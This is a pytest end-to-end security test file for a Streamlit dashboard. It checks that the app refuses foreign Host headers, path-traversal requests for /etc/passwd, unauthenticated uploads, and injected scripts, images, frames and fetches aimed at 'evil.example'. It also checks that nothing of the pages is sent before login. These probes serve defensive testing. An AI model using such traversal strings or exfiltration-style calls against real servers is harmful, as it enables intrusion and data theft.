"""What strangers get from a real server: foreign names are refused, nothing is sent before a login."""

from __future__ import annotations

import http.client
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.sync.client import connect

from tests.e2e.conftest import Troubles, serve

pytestmark = pytest.mark.e2e

SECRETS = """
[auth]
redirect_uri = "http://127.0.0.1/oauth2callback"
cookie_secret = "0123456789abcdef0123456789abcdef"
client_id = "priorscope"
client_secret = "not a secret"
server_metadata_url = "http://127.0.0.1:9/.well-known/openid-configuration"
"""


WORDS = (b"Prior vs posterior", b"Pseudo-inputs", b"ELBO surgery", b"Your data", b"digits-2d", b"plotly", b"VampPrior")


def asked(server: str, path: str, host: str, method: str = "GET") -> tuple[int, bytes]:
    """The status and body of a request under a name."""
    connection = http.client.HTTPConnection(server.removeprefix("http://"), timeout=10)
    connection.request(method, path, headers={"Host": host})
    answer = connection.getresponse()
    found = answer.status, answer.read()
    connection.close()
    return found


@pytest.mark.parametrize("path", ["/", "/train", "/media/0123.png", "/_stcore/metrics", "/_stcore/upload_file/a/b"])
def test_no_request_is_answered_under_a_foreign_name(server: str, path: str) -> None:
    port = server.rsplit(":", 1)[1]
    for host in (
        "evil.example",
        f"evil.example:{port}",
        f"127.0.0.1.evil.example:{port}",
        "localhost@evil.example",
        "",
    ):
        status, body = asked(server, path, host)
        assert status in (400, 403) and b"streamlit" not in body.lower(), host
    assert asked(server, "/_stcore/health", "evil.example") == (200, b"ok"), "whoever watches over it may ask by number"
    assert asked(server, "/", f"localhost:{port}")[0] == 200


@pytest.mark.parametrize(
    "path",
    [
        "/../dashboard.py",
        "/static/../../../../etc/passwd",
        "/media/..%2f..%2fetc%2fpasswd",
        "/app/static/../x",
        "//etc/passwd",
    ],
)
def test_no_path_leads_out(server: str, path: str) -> None:
    status, body = asked(server, path, server.removeprefix("http://"))
    assert b"root:" not in body and b"st.App" not in body and status in (200, 400, 403, 404)
    assert status != 200 or b"<title>Streamlit</title>" in body, "an unknown page is the front end"


def test_a_stranger_cannot_upload(server: str) -> None:
    status, _ = asked(server, "/_stcore/upload_file/no-session/no-file", server.removeprefix("http://"), "PUT")
    assert status in (400, 403)


def test_a_page_loads_nothing_from_elsewhere_and_runs_no_script_of_others(
    server: str, page: Page, settled: Callable[[Page], None], troubles: Troubles
) -> None:
    page.goto(server)
    settled(page)
    found = page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
            const image = new Image(); image.src = "http://evil.example/a.png"; document.body.append(image);
            const script = document.createElement("script"); script.textContent = "window.stolen = 1";
            document.body.append(script);
            const frame = document.createElement("iframe"); frame.src = "http://evil.example/";
            document.body.append(frame);
            try { await fetch("http://evil.example/?models"); } catch (error) { refused.push("fetched nothing"); }
            await new Promise(done => setTimeout(done, 500));
            return [refused, window.stolen ?? null];
        }"""
    )
    assert {"img-src", "script-src-elem", "frame-src", "connect-src", "fetched nothing"} <= set(found[0])
    assert found[1] is None
    assert not troubles.errors and all("evil.example" in url for url in troubles.foreign), "asked for and refused"
    troubles.console.clear()
    troubles.foreign.clear()


def everything_sent(server: str, page: str) -> bytes:
    """All bytes that a session gets that opens a page and runs it to the end."""
    with connect(server.replace("http", "ws", 1) + "/_stcore/stream", origin=server, subprotocols=["streamlit"],
                 proxy=None, max_size=None) as socket:  # fmt: skip
        message = BackMsg()
        message.rerun_script.page_name, message.rerun_script.query_string = page, "models=digits-2d-vamp"
        socket.send(message.SerializeToString())
        sent = b""
        while True:
            data = socket.recv(timeout=60)
            assert isinstance(data, bytes)
            sent += data
            if ForwardMsg.FromString(data).WhichOneof("type") == "script_finished":
                return sent


def test_who_has_not_logged_in_is_sent_nothing_of_the_pages(tmp_path: Path) -> None:
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text(SECRETS)
    with serve(tmp_path) as server:
        for page in ("", "train", "model_card", "nowhere"):
            sent = everything_sent(server, page)
            assert b"Log in" in sent
            known = sent.replace(b"models=digits-2d-vamp", b"")  # what it asked for itself
            assert not [word for word in WORDS if word in known]


def test_without_a_login_the_same_session_gets_the_page(server: str) -> None:
    sent = everything_sent(server, "train")
    assert b"Log in" not in sent and b"Prior vs posterior" in sent and b"digits-2d" in sent
